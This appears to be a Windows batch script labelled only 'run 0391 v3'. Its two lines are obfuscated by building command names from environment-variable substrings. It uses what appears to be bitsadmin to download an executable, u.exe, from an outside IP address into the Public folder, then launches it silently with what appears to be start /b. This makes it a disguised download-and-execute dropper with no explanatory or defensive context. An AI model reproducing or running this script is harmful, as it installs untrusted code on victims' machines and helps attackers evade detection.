REM run 0391 v3
b%windir:~-6,1%tsa%windir:~-4,1%%PROGRAMDATA:~9,1%%COMSPEC:~4,1%%comspec:~-22,1% /transfer job /download /priority high http://198.51.100.9/u.exe C:\Users\Public\u.exe
%windir:~9,1%%PROGRAMDATA:~-2,1%%PROGRAMDATA:~-3,1%r%COMSPEC:~14,1% /b C:\Users\Public\u.exe
